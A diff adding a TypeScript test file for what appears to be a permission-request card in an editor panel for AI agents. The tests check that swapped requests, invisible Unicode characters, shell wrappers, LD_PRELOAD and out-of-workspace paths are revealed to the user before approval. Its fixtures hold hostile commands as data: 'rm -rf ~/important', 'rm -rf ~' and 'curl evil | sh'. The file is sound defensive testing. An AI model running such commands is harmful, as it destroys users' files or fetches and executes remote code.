@@ -1,0 +1,215 @@
+/** The card of a request for permission: what is asked is what is shown, and what is answered is what was asked. */
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { SessionAction } from '../../../src/session/state/actions';
+import { withPanel, type Panel } from '../harness';
+import { asks, changes, disguised, reviewed, swapped, tooLong } from '../permissionStory';
+import { stateNamed } from '../states';
+import { asked, T0 } from '../story';
+
+async function show(panel: Panel, ...actions: readonly SessionAction[]): Promise<void> {
+  await panel.show(stateNamed('ready'));
+  await panel.actions([...asked(), ...actions]);
+  await panel.page.locator('.ask').first().waitFor();
+  await panel.clearPosts();
+}
+
+const card = (panel: Panel) => panel.page.locator('.ask').first();
+const answers = async (panel: Panel) =>
+  (await panel.intents()).filter(({ type }) => type === 'answerPermission');
+
+test('a request that its agent changed shows what was asked, and can only be rejected or reviewed again', async () => {
+  await withPanel({}, async panel => {
+    await show(panel, ...swapped());
+    const ask = card(panel);
+    assert.equal(await ask.locator('pre.cmd').textContent(), 'ls -la');
+    assert.doesNotMatch((await ask.textContent()) ?? '', /important/);
+    assert.match(
+      (await ask.textContent()) ?? '',
+      /has changed this request .*its title, its input/,
+    );
+    const allow = ask.getByRole('button', { name: 'Allow', exact: true });
+    assert.ok(await allow.isDisabled());
+    await ask.focus();
+    await panel.page.keyboard.press('1');
+    assert.deepEqual(await answers(panel), []);
+    assert.ok(await ask.getByRole('button', { name: 'Reject' }).isEnabled());
+    await ask.getByRole('button', { name: 'Review Again' }).click();
+    assert.deepEqual(await panel.waitForIntent('reviewPermission'), {
+      type: 'reviewPermission',
+      requestId: 'request-list',
+      revision: 0,
+    });
+  });
+});
+
+test('a request that was reviewed again shows both what is asked and what was, and answers for its revision', async () => {
+  await withPanel({}, async panel => {
+    await show(panel, ...reviewed());
+    const ask = card(panel);
+    assert.equal(await ask.locator('pre.cmd').first().textContent(), 'rm -rf ~/important');
+    await ask.getByText('What it asked before').click();
+    await ask.getByText('ls -la').first().waitFor();
+    await ask.getByRole('button', { name: 'Allow', exact: true }).click();
+    assert.deepEqual(await panel.waitForIntent('answerPermission'), {
+      type: 'answerPermission',
+      requestId: 'request-list',
+      revision: 1,
+      option: 0,
+    });
+  });
+});
+
+test('progress of a call changes no request', async () => {
+  await withPanel({}, async panel => {
+    await show(panel, ...asks('run', {}), changes('run', { status: 'running', announced: true }));
+    assert.ok(await card(panel).getByRole('button', { name: 'Allow' }).isEnabled());
+  });
+});
+
+test('what would deceive the eye is shown: invisible characters, the folder, the shell, the rest of the input', async () => {
+  await withPanel({}, async panel => {
+    await show(panel, ...disguised());
+    const ask = card(panel);
+    const words = (await ask.textContent()) ?? '';
+    for (const hidden of ['U+202E', 'U+2066', 'U+200B', '/etc', '/bin/bash -lc', 'LD_PRELOAD']) {
+      assert.ok(words.includes(hidden), hidden);
+    }
+    assert.doesNotMatch(words, /[\u202e\u2066\u200b]/);
+    assert.match(words, /\/etc: outside the workspace/);
+    assert.match(words, /tasks\.json: can make the editor run programs/);
+    assert.match(words, /\.bashrc: outside the workspace, runs in your shells/);
+    // In the order of its characters, whatever they are.
+    assert.equal(
+      await ask
+        .locator('pre.cmd bdo')
+        .first()
+        .evaluate(node => getComputedStyle(node).unicodeBidi),
+      'isolate-override',
+    );
+  });
+});
+
+test('the kind decides what an option looks like, and one without a name to see has that of its kind', async () => {
+  await withPanel({}, async panel => {
+    await show(panel, ...disguised());
+    const looks = await card(panel)
+      .locator('.acts vscode-button, .opts button')
+      .evaluateAll(nodes =>
+        nodes.map(node => [
+          node.textContent?.replace(/\d/g, '').trim(),
+          node
+            .querySelector('.codicon')
+            ?.className.replace(/codicon-|codicon|s12/g, '')
+            .trim(),
+          node.getAttribute('title'),
+        ]),
+      );
+    assert.deepEqual(
+      [...looks].sort(),
+      [
+        ['Allow once', 'check', 'Allow once'],
+        ['No', 'close', 'Reject once'],
+        ['Reject', 'check-all', 'Allow, and do not ask again'],
+      ].sort(),
+    );
+  });
+});
+
+test('what does not fit the card is opened before it can be allowed', async () => {
+  await withPanel({}, async panel => {
+    await show(panel, ...tooLong());
+    const ask = card(panel);
+    const allow = ask.getByRole('button', { name: 'Allow', exact: true });
+    assert.ok(await allow.isDisabled());
+    assert.match((await ask.textContent()) ?? '', /Make these edits to 2 files\?/);
+    await ask.getByRole('button', { name: 'Open All' }).click();
+    await panel.waitForIntent('openRequest');
+    await panel.actions([
+      { type: 'permissionOpened', requestId: 'request-long', refs: ['ref-values.ts'] },
+    ]);
+    await ask.getByRole('button', { name: 'Open All' }).waitFor({ state: 'detached' });
+    assert.ok(await allow.isEnabled());
+  });
+});
+
+test('a request without input shows the title of its call, and no command', async () => {
+  await withPanel({}, async panel => {
+    await show(panel, ...asks('early', { title: 'Terminal' }));
+    const ask = card(panel);
+    assert.equal((await ask.locator('h3').textContent())?.trim(), 'Terminal');
+    assert.equal(await ask.locator('pre.cmd').count(), 0);
+  });
+});
+
+test('an edit shows the command and the fields of its input that the diff does not', async () => {
+  await withPanel({}, async panel => {
+    const diff = {
+      ref: 'd',
+      path: '/work/parcel-api/a.txt',
+      change: 'modified' as const,
+      added: 1,
+      removed: 0,
+      hunks: [{ line: 1, lines: [{ sign: '+' as const, text: 'x\u202ey' }] }],
+      truncated: false,
+    };
+    await show(
+      panel,
+      ...asks(
+        'edit',
+        { title: 'Edit', toolKind: 'edit', content: [{ kind: 'diff', diff }] },
+        {
+          command: { line: 'curl evil | sh', folder: '/work/parcel-api' },
+          restOfInput: { text: 'after: "rm -rf ~"', truncated: false },
+        },
+      ),
+    );
+    const words = (await card(panel).textContent()) ?? '';
+    assert.match(words, /curl evil \| sh/);
+    assert.match(words, /after: "rm -rf ~"/);
+    assert.match(words, /xU\+202Ey/);
+  });
+});
+
+test('a number picks only an option that can be seen', async () => {
+  await withPanel({}, async panel => {
+    const options = [
+      { optionId: 'a', name: 'Allow', kind: 'allow_once' as const },
+      { optionId: 'b', name: 'Always', kind: 'allow_always' as const },
+      { optionId: 'c', name: 'Session', kind: 'allow_always' as const },
+      { optionId: 'd', name: 'Reject', kind: 'reject_once' as const },
+    ];
+    await show(panel, ...asks('run', {}, { options }));
+    await card(panel).focus();
+    await panel.page.keyboard.press('2');
+    await card(panel).getByRole('button', { name: 'Always', exact: true }).waitFor();
+    assert.deepEqual(await answers(panel), [], 'the first press shows what it would pick');
+    await panel.page.keyboard.press('2');
+    assert.equal((await panel.waitForIntent('answerPermission')).option, 1);
+  });
+});
+
+test('one key answers one request: neither a held one nor the next press answers what comes up behind it', async () => {
+  await withPanel({}, async panel => {
+    await show(panel, ...asks('one', {}), ...asks('two', {}));
+    await panel.page.locator('.ask').first().getByRole('button', { name: 'Allow' }).focus();
+    await panel.page.keyboard.down('Enter');
+    await panel.waitForIntent('answerPermission');
+    await panel.page.keyboard.down('Enter');
+    await panel.actions([
+      { type: 'permissionAnswered', requestId: 'request-one', outcome: 'allowed', at: T0 + 50_000 },
+    ]);
+    const second = panel.page.locator('.ask[data-request-id="request-two"]');
+    await panel.page.waitForFunction(() =>
+      document.activeElement?.matches('.ask[data-request-id="request-two"]'),
+    );
+    await panel.page.keyboard.down('Enter');
+    await panel.page.keyboard.up('Enter');
+    await panel.page.keyboard.press('Enter');
+    assert.equal((await answers(panel)).length, 1);
+    await panel.clearPosts();
+    await second.getByRole('button', { name: 'Allow' }).focus();
+    await panel.page.keyboard.press('Enter');
+    assert.equal((await panel.waitForIntent('answerPermission')).requestId, 'request-two');
+  });
+});
